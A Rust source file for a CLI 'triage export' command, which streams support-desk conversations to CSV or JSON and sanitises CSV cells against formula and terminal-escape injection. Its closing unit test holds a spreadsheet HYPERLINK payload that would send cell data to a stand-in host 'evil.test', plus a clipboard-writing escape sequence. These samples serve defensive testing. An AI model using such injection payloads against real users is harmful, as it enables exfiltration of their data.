//! `triage export`: conversations or requests created in a date range, with the Thena
//! export's field names, as CSV, a JSON array or JSON lines, streamed as pages arrive.

use std::collections::HashMap;
use std::io::{IsTerminal, Write};

use jiff::ToSpan;
use jiff::civil::Date;
use serde_json::{Map, Value};

use crate::api::ApiError;
use crate::api::thena::{Field, ThenaRequest};
use crate::api::unthread::{Conversation, ListRequest, Operator, User, Where};
use crate::desk::any::AnyDesk;
use crate::shell::cli::ExportFormat;

pub const COLUMNS: [&str; 27] = [
    "request_id",
    "created_datetime",
    "workspace_name",
    "slack_channel",
    "customer_name",
    "requestor_email",
    "request_title",
    "request_summary",
    "sentiment",
    "urgency",
    "status",
    "assigned_on",
    "owner",
    "assigned_to_user_email",
    "first_response_time",
    "number_of_replies",
    "closed_by",
    "feedback",
    "csat_score",
    "closed_datetime",
    "resolution_time_hours",
    "on_hold_on",
    "on_hold_by",
    "on_hold_by_user_email",
    "ai_tags",
    "slack_thread_link",
    "internal_thread_slack_link",
];

/// One exported record: a value per column (`ai_tags` separately, it is a list).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Row {
    values: HashMap<&'static str, String>,
    tags: Vec<String>,
}

impl Row {
    fn set(&mut self, column: &'static str, value: impl Into<String>) {
        self.values.insert(column, value.into());
    }
    fn get(&self, column: &str) -> &str {
        self.values.get(column).map_or("", String::as_str)
    }
    fn to_json(&self) -> Value {
        let mut map = Map::new();
        for column in COLUMNS {
            let value =
                if column == "ai_tags" { Value::from(self.tags.clone()) } else { Value::from(self.get(column)) };
            map.insert(column.to_string(), value);
        }
        Value::Object(map)
    }
}

fn time(f: &Field<jiff::Timestamp>) -> String {
    f.value().map_or_else(String::new, |t| t.to_string())
}

fn number(f: &Field<f64>) -> String {
    f.value().map_or_else(String::new, |n| n.to_string())
}

pub fn thena_row(r: &ThenaRequest) -> Row {
    let mut row = Row { tags: r.ai_tags.clone(), ..Row::default() };
    let text = |s: &str| s.to_string();
    row.set("request_id", text(&r.request_id));
    row.set("created_datetime", time(&r.created_datetime));
    row.set("workspace_name", text(&r.workspace_name));
    row.set("slack_channel", text(&r.slack_channel));
    row.set("customer_name", text(&r.customer_name));
    row.set("requestor_email", text(&r.requestor_email));
    row.set("request_title", text(&r.request_title));
    row.set("request_summary", text(&r.request_summary));
    row.set("sentiment", text(&r.sentiment));
    row.set("urgency", text(&r.urgency));
    row.set("status", text(&r.status));
    row.set("assigned_on", time(&r.assigned_on));
    row.set("owner", text(&r.owner));
    row.set("assigned_to_user_email", text(&r.assigned_to_user_email));
    row.set("first_response_time", time(&r.first_response_time));
    row.set("number_of_replies", number(&r.number_of_replies));
    row.set("closed_by", text(&r.closed_by));
    row.set("feedback", r.feedback.value().cloned().unwrap_or_default());
    row.set("csat_score", number(&r.csat_score));
    row.set("closed_datetime", time(&r.closed_datetime));
    row.set("resolution_time_hours", number(&r.resolution_time_hours));
    row.set("on_hold_on", time(&r.on_hold_on));
    row.set("on_hold_by", text(&r.on_hold_by));
    row.set("on_hold_by_user_email", text(&r.on_hold_by_user_email));
    row.set("slack_thread_link", text(&r.slack_thread_link));
    row.set("internal_thread_slack_link", text(&r.internal_thread_slack_link));
    row
}

const CONVERSATION_FIELDS: [&str; 17] = [
    "id",
    "friendlyId",
    "title",
    "summary",
    "status",
    "priority",
    "createdAt",
    "closedAt",
    "statusUpdatedAt",
    "responseTime",
    "resolutionTime",
    "assignedToUserId",
    "customer.name",
    "customer.slackChannel.name",
    "tags.name",
    "initialMessage.user.email",
    "initialMessage.sentByUser.email",
];

pub fn unthread_row(c: &Conversation, users: &HashMap<String, User>) -> Row {
    let mut row = Row { tags: c.tags.iter().map(|t| t.name.clone()).collect(), ..Row::default() };
    let created: Option<jiff::Timestamp> = c.created_at.as_deref().and_then(|t| t.parse().ok());
    let assignee = c.assigned_to_user_id.as_ref().and_then(|id| users.get(id));
    let requester = c.initial_message.as_ref().and_then(|m| {
        m.sent_by_user.as_ref().and_then(|s| s.email.clone()).or_else(|| m.user.as_ref().and_then(|u| u.email.clone()))
    });
    row.set("request_id", c.friendly_id.map_or(String::new(), |n| (n as u64).to_string()));
    row.set("created_datetime", c.created_at.clone().unwrap_or_default());
    row.set(
        "slack_channel",
        c.customer.as_ref().and_then(|cu| cu.slack_channel.as_ref()?.name.clone()).unwrap_or_default(),
    );
    row.set("customer_name", c.customer.as_ref().map(|cu| cu.name.clone()).unwrap_or_default());
    row.set("requestor_email", requester.unwrap_or_default());
    row.set("request_title", c.title.clone().unwrap_or_default());
    row.set("request_summary", c.summary.clone().unwrap_or_default());
    row.set("urgency", c.priority.and_then(crate::desk::Priority::from_number).map_or("", |p| p.label()));
    row.set("status", c.status.map_or("", |s| s.as_wire()));
    row.set("owner", assignee.map(|u| u.name.clone()).unwrap_or_default());
    row.set("assigned_to_user_email", assignee.and_then(|u| u.email.clone()).unwrap_or_default());
    let first_response =
        created.zip(c.response_time).map(|(t, s)| (t + jiff::SignedDuration::from_secs_f64(s)).to_string());
    row.set("first_response_time", first_response.unwrap_or_default());
    row.set("closed_datetime", c.closed_at.clone().unwrap_or_default());
    row.set("resolution_time_hours", c.resolution_time.map_or(String::new(), |s| format!("{:.2}", s / 3600.0)));
    if c.status == Some(crate::api::unthread::Status::OnHold) {
        row.set("on_hold_on", c.status_updated_at.clone().unwrap_or_default());
    }
    row
}

/// A server's text as a CSV cell: one clean line (nothing that drives a terminal), and a
/// formula neutralised as OWASP recommends — a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// CR gets a leading `'`, so a spreadsheet shows it instead of running it.
fn csv_cell(value: &str) -> String {
    let clean = crate::support::sanitize::line(value);
    match clean.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{clean}"),
        _ => clean.into_owned(),
    }
}

/// Writes rows in the chosen format as they come.
struct Sink<'a> {
    format: ExportFormat,
    csv: Option<csv::Writer<&'a mut dyn Write>>,
    out: Option<&'a mut dyn Write>,
    written: usize,
}

impl<'a> Sink<'a> {
    fn new(format: ExportFormat, out: &'a mut dyn Write) -> std::io::Result<Self> {
        if format == ExportFormat::Csv {
            let mut w = csv::Writer::from_writer(out);
            w.write_record(COLUMNS)?;
            return Ok(Sink { format, csv: Some(w), out: None, written: 0 });
        }
        if format == ExportFormat::Json {
            out.write_all(b"[")?;
        }
        Ok(Sink { format, csv: None, out: Some(out), written: 0 })
    }

    fn write(&mut self, row: &Row) -> std::io::Result<()> {
        match (&mut self.csv, &mut self.out) {
            (Some(w), _) => {
                let tags = row.tags.join("; ");
                let cells = COLUMNS.iter().map(|c| if *c == "ai_tags" { tags.as_str() } else { row.get(c) });
                w.write_record(cells.map(csv_cell))?;
            }
            (None, Some(out)) => {
                // Controls, C1, bidi and invisibles escaped as \uXXXX: exact, and inert.
                let json = crate::shell::scripting::output::json_text(&row.to_json());
                match self.format {
                    ExportFormat::Json => write!(out, "{}\n  {json}", if self.written == 0 { "" } else { "," })?,
                    _ => writeln!(out, "{json}")?,
                }
            }
            (None, None) => {}
        }
        self.written += 1;
        Ok(())
    }

    fn finish(mut self) -> std::io::Result<usize> {
        if let Some(w) = self.csv.as_mut() {
            w.flush()?;
        }
        if let (ExportFormat::Json, Some(out)) = (self.format, self.out.as_mut()) {
            out.write_all(if self.written == 0 { b"]\n" } else { b"\n]\n" })?;
            out.flush()?;
        }
        Ok(self.written)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("{0}")]
    Api(#[from] ApiError),
    #[error("writing the export failed: {0}")]
    Io(#[from] std::io::Error),
}

fn progress(done: usize, total: Option<u64>) {
    let total = total.map_or(String::new(), |t| format!(" of {}", crate::ui::format::thousands(t)));
    eprint!("\rexported {}{total}   ", crate::ui::format::thousands(done as u64));
}

/// Export everything created from `from` to `to` (inclusive) into `out`; the row count.
pub async fn run(
    desk: &AnyDesk,
    from: Date,
    to: Date,
    format: ExportFormat,
    out: &mut dyn Write,
) -> Result<usize, ExportError> {
    let show_progress = std::io::stderr().is_terminal();
    let mut sink = Sink::new(format, out)?;
    match desk {
        AnyDesk::Thena(thena) => {
            let export = thena.export(true).await?;
            for r in &export.requests {
                sink.write(&thena_row(r))?;
            }
        }
        AnyDesk::Unthread(unthread) => {
            let client = unthread.client();
            let users: HashMap<String, User> = client
                .collect_all::<User, _>("/users/list", ListRequest::new(), |_, _| {})
                .await?
                .into_iter()
                .map(|u| (u.id.clone(), u))
                .collect();
            let day_after = (to + 1.day()).to_string();
            let mut request = Some(
                ListRequest::new()
                    .select(&CONVERSATION_FIELDS)
                    .order(&["createdAt", "id"], false)
                    .filter(Where::new("createdAt", Operator::Ge, from.to_string()))
                    .filter(Where::new("createdAt", Operator::Lt, day_after)),
            );
            let mut guard = crate::support::pages::PageGuard::new();
            while let Some(req) = request {
                let page = client.list_conversations(&req).await?;
                for c in page.items() {
                    sink.write(&unthread_row(c, &users))?;
                }
                if show_progress {
                    progress(sink.written, page.total_count());
                }
                request = crate::api::unthread::next_guarded(&req, &page, &mut guard).map_err(ApiError::from)?;
            }
        }
    }
    let written = sink.finish()?;
    if show_progress {
        eprintln!();
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn a_cell_is_inert_on_a_terminal_and_in_a_spreadsheet() {
        assert_eq!(
            csv_cell(r#"=HYPERLINK("http://evil.test/?x="&A1,"Open")"#),
            r#"'=HYPERLINK("http://evil.test/?x="&A1,"Open")"#
        );
        for formula in ["+1+2", "-2+3", "@SUM(A1)"] {
            assert!(csv_cell(formula).starts_with('\''), "{formula}");
        }
        assert_eq!(csv_cell("plain 42"), "plain 42");
        let hostile = csv_cell("a\u{1b}]52;c;eA==\u{7}b\u{9b}31m\u{202e}");
        assert!(!hostile.chars().any(|c| c.is_control() || c == '\u{202e}'), "{hostile:?}");
    }
}
